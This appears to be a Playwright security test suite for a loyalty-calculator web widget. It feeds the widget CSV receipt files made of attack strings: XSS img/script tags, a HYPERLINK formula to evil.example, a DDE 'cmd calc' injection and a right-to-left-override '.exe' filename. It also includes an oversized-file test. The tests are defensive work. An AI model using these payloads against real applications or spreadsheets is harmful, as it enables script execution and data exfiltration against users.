import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { DIST, expect, test } from './fixtures.js';
import { type Server, serve } from './server.js';

// What a file may hold against its reader. The host has no policy that would help.

let host: Server;

test.beforeAll(async () => {
  host = await serve(DIST, {
    csp: '',
    pages: {
      '/favicon.ico': '',
      '/index.html': `<!doctype html><html lang="en"><title>Shop</title>
        <script type="module" src="/loyalty-calculator.js"></script>
        <loyalty-calculator></loyalty-calculator></html>`,
    },
  });
});

test.afterAll(() => host.close());

const IMAGE = '<img src=x onerror="window.attacked=1">';
const SCRIPT = '<script>window.attacked=1</script>';
const FORMULA = '=HYPERLINK("http://evil.example/"&A1;"open")';
const COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0";
/** Turns the rest of the line around. */
const OVERRIDE = '\u202egnp.exe';

test('what looks like code in a file stays text, in the page and in what is saved', async ({
  page,
  widget,
}) => {
  await page.goto(host.url);
  await widget.ready();
  await widget.choose({ name: `${IMAGE}${OVERRIDE}.csv`, content: attackCsv() });
  await widget.reported();
  const quality = widget.host.locator('lc-quality');
  await expect(quality).toContainText(IMAGE);
  await expect(quality).toContainText(SCRIPT);
  // A figure by shop: the names of shops are theirs.
  await widget.card('revenue').getByRole('button', { name: 'Definition' }).click();
  const definition = widget.host.locator('lc-definition');
  await definition.locator('#by').selectOption('store');
  await expect(definition).toContainText(SCRIPT);
  expect(await turned(page)).toEqual([]);

  const saved = await save(page, () => quality.getByRole('button', { name: /Download/ }).click());
  expect(saved.name).not.toMatch(/[\u202a-\u202e\u2066-\u2069<>]/);
  for (const cell of cellsOf(saved.text)) expect(cell).not.toMatch(/^[=@\t\r]|^[+-](?![\d ,.]*$)/);
  expect(saved.text).toContain(`'${COMMAND}`);

  await quality.getByRole('button', { name: 'How the files are read' }).click();
  const step = widget.host.locator('lc-import');
  await expect(step).toContainText(FORMULA);
  expect(await turned(page)).toEqual([]);
  expect(await attacked(page)).toEqual([]);
});

test('five thousand columns and cells of a megabyte hold nothing up', async ({ page, widget }) => {
  await page.goto(host.url);
  await widget.ready();
  await widget.choose({ name: 'wide.csv', content: wideCsv() });
  await widget.reported();
  const quality = widget.host.locator('lc-quality');
  await expect(quality).toContainText('1 row is longer than 1 MB');
  expect(await elements(page)).toBeLessThan(20_000);
  await quality.getByRole('button', { name: 'How the files are read' }).click();
  await expect(widget.host.locator('lc-import')).toContainText(/40 of \d+ columns shown/);
  expect(await elements(page)).toBeLessThan(20_000);
});

/** Receipts in which every text is an attack. */
function attackCsv(): string {
  const header = ['Дата', 'Номер чека', 'Карта', 'Магазин', 'Сумма', IMAGE, FORMULA, OVERRIDE];
  const rows = Array.from({ length: 300 }, (_, at) => {
    const day = `${String(1 + (at % 28)).padStart(2, '0')}.0${1 + Math.floor(at / 50)}.2025`;
    const member = at % 2 ? `=1+${at % 40}` : '';
    const shop = [SCRIPT, IMAGE, `${OVERRIDE}shop`][at % 3] ?? '';
    const date = at === 7 ? COMMAND : day;
    const amount = at === 9 ? SCRIPT : `${120 + ((at * 37) % 900)},50`;
    return [date, `+${at}=`, member, shop, amount, IMAGE, COMMAND, OVERRIDE];
  });
  return [header, ...rows].map((row) => row.map(quoted).join(';')).join('\r\n');
}

/** Receipts with 5,000 columns, and one row with a cell of a megabyte. */
function wideCsv(): string {
  const names = Array.from({ length: 4996 }, (_, at) => `c${at}`);
  const rest = names.map((_, at) => at % 10).join(';');
  const rows = Array.from({ length: 200 }, (_, at) => {
    const day = `${String(1 + (at % 28)).padStart(2, '0')}.0${1 + Math.floor(at / 50)}.2025`;
    return [day, at, at % 2 ? 7700 + (at % 40) : '', `${120 + at},50`, rest].join(';');
  });
  rows[50] = `01.02.2025;${'z'.repeat(1 << 20)};;100,00;${rest}`;
  return [`Дата;Номер чека;Карта;Сумма;${names.join(';')}`, ...rows].join('\n');
}

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}

/** The cells of a file that was saved. */
function cellsOf(csv: string): string[] {
  return [...csv.replace('\ufeff', '').matchAll(/"((?:[^"]|"")*)"|([^;,\r\n"]+)/g)].map(
    ([, inside, plain]) => inside?.replaceAll('""', '"') ?? plain ?? '',
  );
}

async function save(
  page: Page,
  click: () => Promise<void>,
): Promise<{ name: string; text: string }> {
  const downloading = page.waitForEvent('download');
  await click();
  const download = await downloading;
  return { name: download.suggestedFilename(), text: readFileSync(await download.path(), 'utf8') };
}

/** Signs that something of a file became code or an element. */
function attacked(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found = 'attacked' in window ? ['code has run'] : [];
    const walk = (root: ParentNode): void => {
      for (const element of root.querySelectorAll('*')) {
        if (element.matches('img, script:not([src]), iframe, object, [onerror], a[href]')) {
          found.push(element.outerHTML);
        }
        if (element.shadowRoot) walk(element.shadowRoot);
      }
    };
    walk(document);
    return found;
  });
}

/** Texts on the page in which a mark of the file would turn our own words around. */
function turned(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const walk = (root: ParentNode): void => {
      for (const element of root.querySelectorAll('*')) {
        for (const { nodeType, textContent } of element.childNodes) {
          const marked = /[\u202a-\u202e\u2066-\u2069]/.test(textContent ?? '');
          if (nodeType === Node.TEXT_NODE && marked) found.push(element.outerHTML);
        }
        if (element.shadowRoot) walk(element.shadowRoot);
      }
    };
    walk(document);
    return found;
  });
}

function elements(page: Page): Promise<number> {
  return page.evaluate(() => {
    const count = (root: ParentNode): number => {
      const all = [...root.querySelectorAll('*')];
      return all.reduce(
        (sum, { shadowRoot }) => sum + (shadowRoot ? count(shadowRoot) : 0),
        all.length,
      );
    };
    return count(document);
  });
}
